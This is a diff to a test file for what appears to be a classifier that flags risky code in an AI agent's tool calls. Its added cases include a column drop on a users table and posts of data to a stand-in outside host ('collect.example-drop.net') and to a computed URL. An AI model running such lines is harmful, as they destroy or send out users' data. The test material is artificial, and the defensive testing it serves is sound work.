@@ -192,6 +192,17 @@ def codes(tool: str, args: dict[str, object], instruction: str = ASKED) -> set[s
             },
             "action.money",
         ),
+        ("python_repl", {"code": "op.drop_column('users', 'email')"}, "action.destructive"),
+        (
+            "python_repl",
+            {"code": "c = httpx.Client(base_url='https://collect.example-drop.net')\nc.post('/i')"},
+            "action.data_outward",
+        ),
+        (
+            "python_repl",
+            {"code": "url = target()\nrequests.post(url, json=rows)"},
+            "action.data_outward",
+        ),
         # A tool named only for its runtime reads what it is given.
         ("python", {"input": "boto3.client('s3').delete_bucket(Bucket='x')"}, "action.destructive"),
     ],
@@ -255,6 +266,16 @@ def test_what_the_code_does_escalates(tool: str, args: dict[str, object], code: 
         ("python_repl", {"code": "ledger.transactions.create_index('date')\nprint(total)"}),
         ("python_repl", {"code": "key_path = os.path.join('keys', 'public.txt')\nprint(key_path)"}),
         ("python_repl", {"code": "es.delete_by_query(index='logs', query={'term': {'id': 'a'}})"}),
+        ("python_repl", {"code": "b = np.empty_like(a)\nc = torch.empty((3, 3))"}),
+        (
+            "python_repl",
+            {"code": "client = app.test_client()\nr = client.post('/login', data={'u': 'a'})"},
+        ),
+        ("python_repl", {"code": "pat = re.compile(requests.get(u).text)"}),
+        (
+            "python_repl",
+            {"code": "c = httpx.Client(base_url='http://localhost:8000')\nc.post('/i', json=r)"},
+        ),
     ],
 )
 def test_routine_code_runs_on_its_own(tool: str, args: dict[str, object]) -> None:
